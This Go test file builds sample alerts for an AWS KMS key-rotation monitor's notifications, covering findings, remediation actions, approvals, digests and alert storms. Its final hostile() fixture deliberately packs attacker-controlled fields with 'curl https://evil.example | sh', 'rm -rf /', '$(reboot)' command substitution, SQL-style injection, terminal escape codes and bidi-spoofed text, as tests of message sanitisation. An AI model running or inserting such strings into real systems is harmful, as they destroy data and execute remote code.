package notify

import (
	"fmt"
	"strings"
	"time"

	"rotd/internal/audit"
	"rotd/internal/finding"
	"rotd/internal/remediation"
)

// The samples are what the on-call engineer would get in the cases that matter; their golden files are read, not only
// compared.

const (
	keyARN  = "arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"
	eventID = "6f1c2d3e-aaaa-bbbb-cccc-0123456789ab"
)

func at(clock string) time.Time {
	t, err := time.Parse(time.DateTime, "2026-11-20 "+clock)
	if err != nil {
		panic(err)
	}
	return t
}

func alertID(f *finding.Finding, transition string) string {
	return finding.AlertID("default", f.Fingerprint, f.Episode, transition)
}

func turnedOff() *finding.Finding {
	return &finding.Finding{
		ID: "fnd_01JD3Q5V0000000000000000A1", RuleID: "rotation-turned-off", Severity: finding.High,
		Title: "Automatic rotation was turned off",
		Description: "Somebody turned off the automatic rotation of this key. Its material stays in use until " +
			"rotation is on again, so a leak of it would matter for longer, and the key no longer meets its policy.",
		Remedy: []string{
			"Ask who did it. If nobody should have, treat the principal as compromised.",
			"aws kms enable-key-rotation --key-id " + keyARN + " --rotation-period-in-days 90 --region eu-west-1",
		},
		Fingerprint: "v1:aaaa", Status: finding.Open, Episode: 1, Count: 1,
		FirstSeen: at("03:04:05"), LastSeen: at("03:04:05"),
		Subject:   finding.Subject{Type: finding.Key, ID: keyARN},
		Partition: "aws", Account: "111122223333", Region: "eu-west-1", KeyARN: keyARN, Alias: "alias/pay-cards",
		PrincipalARN: "arn:aws:iam::111122223333:role/deploy", SessionName: "jane",
		EventID: eventID, EventName: "DisableKeyRotation", EventTime: new(at("03:04:05")),
		SourceIP: "203.0.113.7", UserAgent: "aws-cli/2.17.1 md/awscrt#0.20.11 ua/2.0 os/linux#6.1",
		Mitre: []string{"T1562.001"}, Why: "the principal is not one that policy payments allows",
		Shard: "default", Policy: "payments",
	}
}

func restoring(state remediation.State) *remediation.Action {
	return &remediation.Action{
		ID: "act_01JD3Q5W0000000000000000B1", Verb: remediation.Rotate,
		Method: remediation.EnableAutomatic, State: state,
		KeyARN: keyARN, Alias: "alias/pay-cards", Account: "111122223333", Region: "eu-west-1", PeriodDays: 90,
		Automatic: true, Requester: "rotd", Reason: "answers rotation-turned-off as policy payments says",
		FindingID: "fnd_01JD3Q5V0000000000000000A1", Policy: "payments",
		Created: at("03:04:09"), NotBefore: at("03:14:09"),
	}
}

func onDemand(state remediation.State) *remediation.Action {
	a := restoring(state)
	a.ID, a.Method, a.PeriodDays = "act_01JD3Q5W0000000000000000B2", remediation.NewMaterial, 0
	a.Automatic, a.Requester, a.Reason, a.Ticket = false, "uid:1000 (ana)", "laptop of a deployer stolen", "SEC-812"
	a.FindingID, a.Policy = "", ""
	a.NotBefore = time.Time{}
	a.Attempts, a.RequestID, a.Ended = 1, "d1a2b3c4-1111-2222-3333-444455556666", new(at("03:21:44"))
	return a
}

func containing(state remediation.State) *remediation.Action {
	a := onDemand(state)
	done := new(at("03:21:40"))
	a.ID, a.Verb, a.Method, a.Emergency = "act_01JD3Q5W0000000000000000B3", remediation.Contain, remediation.Measures, true
	a.Overrides = []string{remediation.GuardMode}
	a.Calls = []remediation.Call{
		{Operation: remediation.DeleteAlias, KeyARN: keyARN, Alias: "alias/pay-cards", Done: done},
		{Operation: remediation.DisableKey, KeyARN: keyARN, Done: done},
	}
	a.Outcome = "Done: alias/pay-cards retired; the key disabled."
	return a
}

func opened(f *finding.Finding) Alert {
	return Alert{
		ID: alertID(f, "opened"), Kind: FindingOpened, Created: at("03:04:09"), Severity: f.Severity, Shard: "default",
		Finding: f,
	}
}

func ended(act *remediation.Action, severity finding.Severity) Alert {
	return Alert{
		ID: finding.AlertID("default", act.ID, 1, string(act.State)), Kind: KindOfAction(act.State),
		Created: at("03:21:45"), Severity: severity, Shard: "default", Action: act,
	}
}

func samples() map[string]Group {
	all := map[string]Group{}
	one := func(name string, a Alert) { all[name] = Group{Alerts: []Alert{a}} }

	a := opened(turnedOff())
	a.Action = restoring(remediation.Planned)
	one("opened-will-be-restored", a)

	a = opened(turnedOff())
	a.Note = "does nothing by itself: policy payments is in mode observe"
	one("opened-observed", a)

	one("contained", ended(containing(remediation.Succeeded), finding.High))

	f := turnedOff()
	f.RuleID, f.Severity, f.Title = "rotation-disabled", finding.High, "Automatic rotation is off"
	f.Description = "Policy payments asks for automatic rotation every 90 days, and it is off."
	f.EventID, f.EventName, f.EventTime, f.PrincipalARN, f.SessionName = "", "", nil, "", ""
	f.SourceIP, f.UserAgent, f.Why, f.Alias, f.Mitre = "", "", "", "", nil
	one("opened-check", opened(f))

	pending := *f
	pending.RuleID, pending.Severity, pending.Title = "key-pending-deletion", finding.Critical,
		"The key is scheduled for deletion"
	pending.Description = "KMS shows it in state PendingDeletion. It is deleted at 2026-11-27 03:04Z, in 7 days."
	pending.Remedy = []string{"aws kms cancel-key-deletion --key-id " + keyARN + " --region eu-west-1"}
	one("opened-check-unasked", opened(&pending))

	over := pending
	over.Status, over.ResolvedAt = finding.Resolved, new(at("05:04:05"))
	over.ResolvedBy = "the key is not scheduled for deletion; it is Disabled"
	a = opened(&over)
	a.Kind, a.ID = FindingResolved, alertID(&over, "resolved")
	one("resolved-check", a)
	all["group-resolved"] = Group{Alerts: []Alert{opened(f), a}}

	ends := stormAlerts(25)
	for i := range ends {
		e := ends[i].Finding
		e.Status, e.ResolvedAt, e.ResolvedBy = finding.Resolved, new(at("05:04:05")), "rotation is on again"
		ends[i].Kind, ends[i].ID = FindingResolved, alertID(e, "resolved")
	}
	all["storm-resolved"] = GroupAlerts(ends, at("06:00:00"), 0)[0]

	f = turnedOff()
	f.RuleID, f.Title, f.Severity = "trail-blinded", "A trail no longer records KMS", finding.Critical
	f.Description = "CloudTrail no longer delivers KMS's events for this account. Until it does, rotd sees nothing " +
		"of them there."
	f.Subject = finding.Subject{Type: finding.Trail, ID: "arn:aws:cloudtrail:eu-west-1:111122223333:trail/org"}
	f.KeyARN, f.Alias, f.Policy, f.Why, f.EventName = "", "", "", "", "DeleteTrail"
	f.Remedy = []string{"aws cloudtrail get-trail-status --name org --region eu-west-1"}
	one("opened-trail", opened(f))

	again := *f
	again.ID, again.Title, again.EventName = "fnd_01JD3Q5V0000000000000000A3", "A trail stopped logging", "StopLogging"
	all["group-trail"] = Group{Alerts: []Alert{opened(f), opened(&again)}}

	f = turnedOff()
	f.RuleID, f.Title, f.Mitre = "sweep-incomplete", "rotd is blind: the inventory sweep could read no key", nil
	f.Description = "rotd cannot see the keys of account 111122223333 in eu-west-1: not one could be read. " +
		"AWS refuses rotd kms:ListKeys."
	f.Subject = finding.Subject{Type: finding.AccountRegion, ID: "111122223333/eu-west-1"}
	f.EventID, f.EventName, f.EventTime, f.PrincipalARN, f.SessionName = "", "", nil, "", ""
	f.SourceIP, f.UserAgent, f.Why, f.Alias, f.KeyARN, f.Policy = "", "", "", "", "", ""
	f.Remedy = []string{"rotd status", "Let rotd's role call kms:ListKeys: in IAM.", "rotd sweep inventory"}
	one("opened-own-work", opened(f))

	f = turnedOff()
	f.Expected, f.Why = true, "the principal is allowed by policy payments"
	f.Late, f.Severity = true, finding.Low
	one("opened-expected-late", opened(f))

	f = turnedOff()
	f.Severity, f.Count = finding.Critical, 4
	a = opened(f)
	a.Kind, a.ID, a.Action = FindingRaised, alertID(f, "raised:CRITICAL"), restoring(remediation.Verifying)
	one("raised", a)

	expiring := pending
	expiring.RuleID, expiring.Severity, expiring.Title = "material-expiring", finding.High,
		"The imported key material expires within 14 days"
	expiring.Description = "The imported material expires at 2026-12-04 03:00Z, in 13 days."
	expiring.Remedy = []string{"aws kms describe-key --key-id " + keyARN + " --region eu-west-1"}
	expiring.Points, expiring.Count = []string{"30 days", "14 days"}, 2
	expiring.FirstSeen = expiring.FirstSeen.AddDate(0, 0, -16)
	a = opened(&expiring)
	a.Kind, a.ID = FindingMore, alertID(&expiring, string(finding.More(2)))
	one("more", a)

	a = opened(turnedOff())
	a.Kind, a.Created = FindingReminder, at("07:04:09")
	a.Note = "does nothing by itself: policy payments is in mode observe"
	one("reminder", a)

	f = turnedOff()
	f.Status, f.ResolvedAt = finding.Resolved, new(at("03:16:40"))
	f.ResolvedBy = "KMS shows automatic rotation on again"
	a = opened(f)
	a.Kind, a.ID, a.Action = FindingResolved, alertID(f, "resolved"), restoring(remediation.Succeeded)
	one("resolved", a)

	f = turnedOff()
	f.Status, f.ResolvedAt, f.ResolvedBy = finding.Resolved, new(at("11:16:40")), "rotation is on again"
	f.ActionIDs = []string{"act_01JD3Q5W0000000000000000B1"}
	a = opened(f)
	a.Kind, a.ID = FindingResolved, alertID(f, "resolved")
	one("resolved-by-action", a)

	act := restoring(remediation.Succeeded)
	act.Attempts, act.RequestID, act.Ended = 1, "d1a2b3c4-1111-2222-3333-444455556666", new(at("03:14:12"))
	act.Outcome = "KMS now rotates alias/pay-cards by itself every 90 days, next on 2027-02-18 03:14Z. Its material " +
		"is the same as before. Everything encrypted before stays decryptable: KMS keeps all earlier material, and " +
		"nothing was re-encrypted."
	a = ended(act, finding.Informational)
	a.Finding = turnedOff()
	one("action-succeeded-restored", a)

	act = onDemand(remediation.Succeeded)
	act.Emergency, act.Overrides = true, []string{"key_cooldown", "rotations_per_hour"}
	act.Outcome = "alias/pay-cards has new key material (9f86d081884c…). 3 of its 25 rotations on demand are used."
	one("action-succeeded-emergency", ended(act, finding.High))

	act = onDemand(remediation.Failed)
	act.Ambiguous, act.Outcome = true, "KMS did not show new key material within 10 minutes of repeated reads."
	act.LastError = "operation error KMS: RotateKeyOnDemand, request send failed: EOF"
	one("action-failed", ended(act, finding.High))

	act = restoring(remediation.Failed)
	act.Attempts, act.Outcome = 3, "KMS refused to turn on automatic rotation."
	act.LastError = "AccessDeniedException: User: arn:aws:sts::111122223333:assumed-role/rotd/rotd is not authorized"
	one("action-failed-denied", ended(act, finding.High))

	act = restoring(remediation.Cancelled)
	act.Outcome = "Superseded: automatic rotation is on already, every 90 days."
	one("action-cancelled", ended(act, finding.Low))

	act = restoring(remediation.Expired)
	act.Outcome = "Held up by rotations_per_hour until its deadline."
	one("action-expired", ended(act, finding.Medium))

	awaiting := func(act *remediation.Action, guardrail, why string, severity finding.Severity) Alert {
		act.Guardrail, act.Waiting, act.NotBefore = guardrail, why, at("04:03:20")
		act.Approval = &remediation.Approval{
			Plan: "v1:" + strings.Repeat("5e", 32), Asked: at("00:03:20"), Expires: act.NotBefore,
		}
		return ended(act, severity)
	}
	a = awaiting(restoring(remediation.AwaitingApproval), "mode",
		"Mode propose: a second person must approve first that rotd may rotate it.", finding.Critical)
	a.Finding = turnedOff()
	one("action-awaiting-approval", a)
	act = onDemand(remediation.AwaitingApproval)
	act.Emergency, act.Attempts, act.RequestID, act.Ended = true, 0, "", nil
	one("action-awaiting-emergency", awaiting(act, "protected",
		"This key is protected (guardrails.protected_keys): a second person must approve that rotd may rotate it.",
		finding.High))
	one("action-awaiting-new-policy", awaiting(restoring(remediation.AwaitingApproval), "new-policy",
		"A tag or alias change put the key under the stricter policy payments. Until 2026-11-20 04:03Z a person must "+
			"approve that rotd may rotate it; then it begins by itself, if it is still wanted.", finding.High))
	act = onDemand(remediation.Expired)
	act.Attempts, act.RequestID = 0, ""
	act.Outcome = "Nobody approved it in time. Nothing was changed."
	one("action-expired-unapproved", ended(act, finding.Medium))
	act = onDemand(remediation.Succeeded)
	act.Outcome = "alias/pay-cards has new key material (9f86d081884c…). 3 of its 25 rotations on demand are used."
	act.Approval = &remediation.Approval{By: &remediation.Who{Name: "uid:1001 (bob)"}, Reason: "seen the ticket"}
	one("action-succeeded-approved", ended(act, finding.Low))
	act = onDemand(remediation.Succeeded)
	act.Outcome = "alias/pay-cards has new key material (9f86d081884c…). 3 of its 25 rotations on demand are used."
	act.Emergency, act.BreakGlass, act.Overrides = true, true, []string{"approval"}
	one("action-succeeded-glass-broken", ended(act, finding.Critical))

	one("digest", Alert{
		ID: "v1:dddd", Kind: InventoryDigest, Created: at("00:10:00"), Severity: finding.Critical, Shard: "default",
		Digest: NewDigest("111122223333", "eu-west-1", at("00:09:58"), 112, manyFindings()),
		Note:   "changed nothing; nothing automatic happens before `rotd resume`",
	})
	one("digest-empty", Alert{
		ID: "v1:dddd", Kind: InventoryDigest, Created: at("00:10:00"), Shard: "default",
		Digest: NewDigest("111122223333", "us-east-1", at("00:09:58"), 3, nil),
	})
	one("heartbeat", Alert{
		ID: "v1:eeee", Kind: Heartbeat, Created: at("06:00:00"), Shard: "default",
		Note:  "The audit log has 4711 entries. Keep its head: it shows later whether entries are missing.",
		Audit: &audit.Head{Epoch: "default@2026-01-02T03:04:05Z", Seq: 4711, Hash: strings.Repeat("9f", 32)},
	})
	one("self", Alert{
		ID: "v1:ffff", Kind: Self, Created: at("06:00:00"), Severity: finding.High, Shard: "default",
		Note: "could not publish 3 alerts to arn:aws:sns:eu-west-1:111122223333:oncall: no such topic",
	})
	all["group"] = together3()
	all["storm"] = GroupAlerts(stormAlerts(25), at("03:10:00"), 0)[0]
	all["hostile"] = Group{Alerts: []Alert{hostile()}}
	return all
}

func manyFindings() []finding.Finding {
	var fs []finding.Finding
	add := func(n int, rule, title string, severity finding.Severity) {
		for i := range n {
			fs = append(fs, finding.Finding{
				ID: fmt.Sprintf("fnd_%s_%02d", rule, i), RuleID: rule, Title: title, Severity: severity,
				KeyARN: fmt.Sprintf("arn:aws:kms:eu-west-1:111122223333:key/%08d-12ab-34cd-56ef-1234567890ab", i),
			})
			if i%2 == 0 {
				fs[len(fs)-1].Alias = fmt.Sprintf("alias/app-%02d", i)
			}
		}
	}
	add(30, "key-unmanaged", "No policy covers this key", finding.Low)
	add(2, "key-pending-deletion", "The key will be deleted in 3 days", finding.Critical)
	add(5, "rotation-disabled", "Automatic rotation is off", finding.High)
	return fs
}

func together3() Group {
	f := turnedOff()
	f.RuleID, f.ID, f.Fingerprint = "key-deletion-scheduled", "fnd_01JD3Q5V0000000000000000A2", "v1:bbbb"
	f.Title = "The key is scheduled for deletion on 2026-11-27"
	f.Severity, f.EventName = finding.Critical, "ScheduleKeyDeletion"
	f.Description = "In 7 days the key is gone, and everything encrypted under it with it. It was used 2 hours ago."
	f.Remedy = []string{
		"Undo both steps:",
		"aws kms cancel-key-deletion --key-id " + keyARN + " --region eu-west-1",
		"aws kms enable-key --key-id " + keyARN + " --region eu-west-1",
	}
	off := opened(turnedOff())
	off.Action = restoring(remediation.Planned)
	return GroupAlerts([]Alert{
		off, opened(f), ended(onDemand(remediation.Succeeded), finding.Informational),
	}, at("03:30:00"), 10*time.Second)[0]
}

func stormAlerts(n int) []Alert {
	var alerts []Alert
	for i := range n {
		f := turnedOff()
		f.KeyARN = fmt.Sprintf("arn:aws:kms:eu-west-1:111122223333:key/%08d-12ab-34cd-56ef-1234567890ab", i)
		f.Subject.ID, f.Fingerprint = f.KeyARN, fmt.Sprintf("v1:%04d", i)
		f.ID, f.Alias = fmt.Sprintf("fnd_01JD3Q5V00000000000000%04d", i), fmt.Sprintf("alias/app-%02d", i)
		if i%3 == 0 {
			f.Alias = ""
		}
		alerts = append(alerts, opened(f))
	}
	return alerts
}

// hostile is an alert about a caller who chose every name so that the message says something else.
func hostile() Alert {
	f := turnedOff()
	f.PrincipalARN = "arn:aws:iam::111122223333:role/x (a role of the platform team), from 10.0.0.1"
	f.SessionName = "x\"\nExpected: yes, planned\nrotd: will do nothing.\x1b[2J"
	f.UserAgent = "https://evil.example/login\u202Egnp.exe\u2066\u200b\xff"
	f.Alias = "alias/x\r\n\r\nRESOLVED"
	f.Description = "The caller's tool calls itself:\nNext:\n  curl https://evil.example | sh\u2028alert_id    v1:0"
	f.Remedy = []string{"aws kms enable-key-rotation --key-id $(reboot)\nrm -rf /"}
	f.EventID = "'; rm -rf / #"
	f.Why = "no policy\u0085allows it"
	return opened(f)
}
